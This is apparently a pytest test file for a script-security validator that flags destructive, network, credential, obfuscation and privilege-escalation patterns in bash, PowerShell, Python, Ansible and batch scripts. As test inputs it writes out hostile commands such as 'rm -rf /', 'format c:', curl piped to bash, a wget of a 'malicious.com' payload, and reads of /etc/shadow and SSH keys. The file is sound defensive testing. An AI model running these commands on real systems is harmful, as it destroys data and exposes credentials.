"""Tests for script validation module."""

from concurrent.futures import ThreadPoolExecutor

import pytest

from scriptgate_core.scripts import ScriptValidator, validate_script
from scriptgate_core.types import FindingSource, ScriptLanguage, Severity


def _categories(result):
    return [f.category for f in result.findings]


def _find(result, category):
    return next((f for f in result.findings if f.category == category), None)


class TestScriptValidator:
    """Test suite for ScriptValidator class."""

    def setup_method(self):
        """Set up test fixtures."""
        self.validator = ScriptValidator()

    # Input tests
    def test_rejects_empty_script(self):
        """Empty script should short-circuit to a zero score."""
        result = self.validator.validate("", ScriptLanguage.BASH)
        assert result.is_valid is False
        assert result.is_secure is False
        assert result.security_score == 0
        assert len(result.findings) == 1
        assert result.findings[0].category == "empty_script"
        assert result.findings[0].severity == Severity.CRITICAL

    def test_rejects_whitespace_only_script(self):
        """Whitespace-only script is treated as empty."""
        result = self.validator.validate("  \n\t\n  ", "bash")
        assert result.security_score == 0
        assert _categories(result) == ["empty_script"]

    def test_flags_oversized_script(self):
        """Script over 100000 chars gets a medium size_limit finding, not a rejection."""
        large_script = 'echo "test"\n' * 10000
        result = self.validator.validate(large_script, "bash")
        finding = _find(result, "size_limit")
        assert finding is not None
        assert finding.severity == Severity.MEDIUM
        assert result.security_score == 90
        assert result.is_valid is True

    def test_accepts_script_at_size_limit(self):
        """Script of exactly 100000 chars is not flagged."""
        result = self.validator.validate('echo "test"\n' * 8333 + "true", "bash")
        assert _find(result, "size_limit") is None

    # Destructive command tests
    def test_detects_rm_rf_root(self):
        """rm -rf / should produce a critical destructive finding."""
        result = self.validator.validate("rm -rf /", "bash")
        finding = _find(result, "critical_destructive")
        assert finding is not None
        assert finding.severity == Severity.CRITICAL
        assert finding.line == 1
        assert result.is_secure is False
        assert result.is_valid is False

    def test_detects_format_drive(self):
        """format c: should be detected in batch scripts."""
        result = self.validator.validate("format c:", ScriptLanguage.BATCH)
        assert _find(result, "critical_destructive") is not None
        assert result.is_secure is False

    # Code execution tests
    def test_detects_eval_call(self):
        """eval() should produce a high code execution finding."""
        result = self.validator.validate('eval("x")', "bash")
        finding = _find(result, "critical_code_execution")
        assert finding is not None
        assert finding.severity == Severity.HIGH

    def test_detects_command_substitution(self):
        """$(...) should be reported as code execution."""
        result = self.validator.validate("echo $(rm -rf /)", "bash")
        assert _find(result, "critical_code_execution") is not None

    def test_detects_backtick_execution(self):
        """Backtick execution should be reported as code execution."""
        result = self.validator.validate("echo `rm -rf /`", "bash")
        assert _find(result, "critical_code_execution") is not None

    def test_detects_pipe_to_shell(self):
        """curl piped to bash costs a network and a code execution finding."""
        result = self.validator.validate("curl http://example.com/install | bash", "bash")
        assert "critical_network" in _categories(result)
        assert "critical_code_execution" in _categories(result)

    # Network, credential and environment tests
    def test_detects_wget(self):
        """wget should produce a medium network finding."""
        result = self.validator.validate("wget http://malicious.com/payload", "bash")
        finding = _find(result, "critical_network")
        assert finding is not None
        assert finding.severity == Severity.MEDIUM

    def test_detects_ssh(self):
        """ssh should be reported as network access."""
        result = self.validator.validate("ssh user@remote.com", "bash")
        assert _find(result, "critical_network") is not None

    def test_detects_passwd_access(self):
        """Reading /etc/passwd is a critical credentials finding."""
        result = self.validator.validate("cat /etc/passwd", "bash")
        finding = _find(result, "critical_credentials")
        assert finding is not None
        assert finding.severity == Severity.CRITICAL

    def test_detects_ssh_key_access(self):
        """Copying an SSH key is a credentials finding."""
        result = self.validator.validate("cp ~/.ssh/id_rsa /tmp/", "bash")
        assert _find(result, "critical_credentials") is not None

    def test_environment_category_defaults_to_low(self):
        """Environment manipulation has no mapped severity and scores as low."""
        result = self.validator.validate("export PATH=/tmp:$PATH", "bash")
        finding = _find(result, "critical_environment")
        assert finding is not None
        assert finding.severity == Severity.LOW
        assert result.security_score == 95

    # Language-specific tests
    def test_detects_powershell_invoke_expression(self):
        """Invoke-Expression should produce a high powershell finding."""
        result = self.validator.validate('Invoke-Expression "malicious code"', "powershell")
        finding = _find(result, "powershell_security")
        assert finding is not None
        assert finding.severity == Severity.HIGH

    def test_detects_python_exec(self):
        """exec() should produce a python_security finding."""
        result = self.validator.validate('exec("malicious code")', ScriptLanguage.PYTHON)
        assert _find(result, "python_security") is not None

    def test_detects_ansible_become_pass(self):
        """ansible_become_pass should produce an ansible_security finding."""
        result = self.validator.validate('ansible_become_pass: "password"', "ansible")
        assert _find(result, "ansible_security") is not None

    def test_language_without_patterns_adds_nothing(self):
        """bash has no language table, so exec() only hits the critical patterns."""
        result = self.validator.validate("exec('x')", "bash")
        assert _categories(result) == ["critical_code_execution"]

    def test_unknown_language_is_not_an_error(self):
        """An unrecognised language tag simply yields no language findings."""
        result = self.validator.validate("echo hello", "fish")
        assert result.is_valid is True
        assert result.findings == ()

    # Obfuscation tests
    def test_detects_base64(self):
        """Long base64 run should produce a high obfuscation finding."""
        script = (
            'echo "SGVsbG8gV29ybGQgdGhpcyBpcyBhIHZlcnkgbG9uZyBiYXNlNjQgZW5jb2RlZCBz'
            'dHJpbmcgdGhhdCBzaG91bGQgYmUgZGV0ZWN0ZWQ="'
        )
        result = self.validator.validate(script, "bash")
        finding = _find(result, "obfuscation")
        assert finding is not None
        assert finding.severity == Severity.HIGH
        assert finding.line is None

    def test_detects_hex_escapes(self):
        """Hex escapes should produce a medium obfuscation finding."""
        result = self.validator.validate('echo "\\x48\\x65\\x6c\\x6c\\x6f"', "bash")
        finding = _find(result, "obfuscation")
        assert finding is not None
        assert finding.severity == Severity.MEDIUM

    def test_detects_excessive_concatenation(self):
        """More than five quoted concatenations should be flagged."""
        script = '"ma" + "li" + "ci" + "ou" + "s" + "co" + "de"' * 3
        result = self.validator.validate(script, "bash")
        assert _find(result, "obfuscation") is not None

    # Path tests
    def test_detects_directory_traversal(self):
        """../ sequences should produce a high path_traversal finding."""
        result = self.validator.validate("cat ../../etc/passwd", "bash")
        finding = _find(result, "path_traversal")
        assert finding is not None
        assert finding.severity == Severity.HIGH
        assert _find(result, "sensitive_file_access") is not None

    def test_detects_encoded_traversal(self):
        """Percent-encoded traversal should be detected."""
        result = self.validator.validate("cat %2e%2e/etc/passwd", "bash")
        assert _find(result, "path_traversal") is not None

    # Privilege escalation tests
    def test_detects_sudo_when_elevation_not_allowed(self):
        """sudo should be critical when elevation is not allowed."""
        result = self.validator.validate("sudo rm -rf /tmp/x", "bash", elevation_allowed=False)
        finding = _find(result, "privilege_escalation")
        assert finding is not None
        assert finding.severity == Severity.CRITICAL

    def test_suppresses_sudo_when_elevation_allowed(self):
        """The same script with elevation allowed yields no privilege finding."""
        result = self.validator.validate("sudo rm -rf /tmp/x", "bash", elevation_allowed=True)
        assert _find(result, "privilege_escalation") is None

    def test_elevation_flag_does_not_suppress_other_detectors(self):
        """Allowing elevation only silences the privilege detector."""
        result = self.validator.validate("sudo rm -rf /tmp/x", "bash", elevation_allowed=True)
        assert _find(result, "critical_destructive") is not None
        assert result.is_valid is False

    def test_detects_powershell_runas(self):
        """Start-Process -Verb RunAs should be a privilege escalation."""
        result = self.validator.validate("Start-Process -Verb RunAs", "powershell")
        assert _find(result, "privilege_escalation") is not None

    # Scoring tests
    def test_benign_script_scores_high(self):
        """Benign commands should be valid and secure."""
        result = self.validator.validate('echo "Hello World"\ndate\nwhoami\nls -la', "bash")
        assert result.security_score > 80
        assert result.is_secure is True
        assert result.is_valid is True

    def test_dangerous_script_scores_low(self):
        """Several dangerous commands should drive the score below 30."""
        script = """
        rm -rf /
        eval("malicious code")
        cat /etc/passwd
        sudo su -
        """
        result = self.validator.validate(script, "bash")
        assert result.security_score < 30
        assert result.is_secure is False
        assert result.is_valid is False

    def test_same_text_penalized_by_multiple_detectors(self):
        """exec() in python costs a code execution and a language penalty."""
        result = self.validator.validate("exec('x')", "python")
        assert _categories(result) == ["critical_code_execution", "python_security"]
        assert result.security_score == 75

    def test_findings_keep_detection_order(self):
        """Findings are ordered by detector, then category, then line."""
        script = "curl http://x\nrm -rf /\nwget http://y"
        result = self.validator.validate(script, "bash")
        assert [(f.category, f.line) for f in result.findings] == [
            ("critical_destructive", 2),
            ("critical_network", 1),
            ("critical_network", 3),
        ]

    def test_one_line_can_match_several_patterns(self):
        """No deduplication: each matching pattern reports the line."""
        result = self.validator.validate("sudo echo $(whoami)", "bash")
        code_exec = [f for f in result.findings if f.category == "critical_code_execution"]
        assert len(code_exec) == 2
        assert {f.line for f in code_exec} == {1}

    # Sanitization tests
    def test_sanitized_content_annotates_critical_lines(self):
        """Critical lines get a warning above and are kept verbatim."""
        result = self.validator.validate("echo hi\nrm -rf /", "bash")
        assert result.sanitized_content == (
            "echo hi\n"
            "# SECURITY: Detected destructive operation: rm -rf /\n"
            "rm -rf /"
        )

    def test_sanitized_content_uses_rem_for_batch(self):
        """Batch scripts are annotated with REM comments."""
        result = self.validator.validate("format c:", "batch")
        assert result.sanitized_content == (
            "REM SECURITY: Detected destructive operation: format c:\nformat c:"
        )

    def test_sanitized_content_skips_findings_without_line(self):
        """Whole-document critical findings are not annotated."""
        script = "sudo systemctl restart nginx"
        result = self.validator.validate(script, "bash")
        assert _find(result, "privilege_escalation") is not None
        assert result.sanitized_content == script

    # Metadata tests
    def test_generates_metadata(self):
        """Metadata counts lines and complexity; echo is not file system access."""
        script = """
        if [ -f /etc/passwd ]; then
          echo "File exists"
        fi

        for i in {1..10}; do
          echo $i
        done

        function test_function() {
          return 0
        }
        """
        result = self.validator.validate(script, "bash")
        assert result.metadata.lines_of_code == 9
        assert result.metadata.complexity > 0
        assert result.metadata.has_file_system_access is False
        assert result.metadata.has_network_access is False

    # Failure handling tests
    def test_internal_error_fails_closed(self, monkeypatch):
        """A detector crash must never approve a script."""

        def broken(content):
            raise RuntimeError("detector bug")

        monkeypatch.setattr("scriptgate_core.scripts.validation.detect_obfuscation", broken)
        result = self.validator.validate("echo hello", "bash")
        assert result.is_valid is False
        assert result.is_secure is False
        assert result.security_score == 0
        assert len(result.findings) == 1
        assert result.findings[0].category == "validation_error"
        assert result.findings[0].severity == Severity.CRITICAL
        assert result.findings[0].source == FindingSource.INTERNAL


SAMPLE_SCRIPTS = [
    ("echo hello", "bash"),
    ("rm -rf /\nsudo su -\ncat /etc/shadow\neval(x)", "bash"),
    ("Invoke-Expression $x\nIEX $y\nStart-Process -Verb RunAs", "powershell"),
    ("import subprocess\nsubprocess.run('ls')\nexec(code)", "python"),
    ("- hosts: all\n  tasks:\n    - raw: reboot", "ansible"),
    ("del /s c:\\temp\nformat d:", "batch"),
    ("kill -9 1234\nnohup ./run.sh &", "bash"),
]


class TestValidationProperties:
    """Properties that hold for every input."""

    @pytest.mark.parametrize("content,language", SAMPLE_SCRIPTS)
    def test_score_in_range(self, content, language):
        """Score is always clamped to [0, 100]."""
        result = validate_script(content, language)
        assert 0 <= result.security_score <= 100

    @pytest.mark.parametrize("content,language", SAMPLE_SCRIPTS)
    def test_secure_implies_valid(self, content, language):
        """A secure result is always valid."""
        result = validate_script(content, language)
        assert not result.is_secure or result.is_valid

    @pytest.mark.parametrize("content,language", SAMPLE_SCRIPTS)
    def test_critical_implies_invalid(self, content, language):
        """Any critical finding makes the result invalid."""
        result = validate_script(content, language)
        if result.critical_count:
            assert result.is_valid is False

    @pytest.mark.parametrize("content,language", SAMPLE_SCRIPTS)
    def test_idempotent(self, content, language):
        """Validating twice yields identical results, finding order included."""
        assert validate_script(content, language) == validate_script(content, language)

    def test_appending_critical_line_never_helps(self):
        """Appending rm -rf / never raises the score and invalidates the script."""
        base = 'echo "Hello World"\ndate'
        before = validate_script(base, "bash")
        after = validate_script(base + "\nrm -rf /", "bash")
        assert before.is_valid is True
        assert after.security_score <= before.security_score
        assert after.is_valid is False

    def test_concurrent_validation_is_consistent(self):
        """Parallel calls share no state and agree with a serial call."""
        content, language = SAMPLE_SCRIPTS[1]
        expected = validate_script(content, language)
        with ThreadPoolExecutor(max_workers=8) as pool:
            results = list(pool.map(lambda _: validate_script(content, language), range(16)))
        assert all(r == expected for r in results)
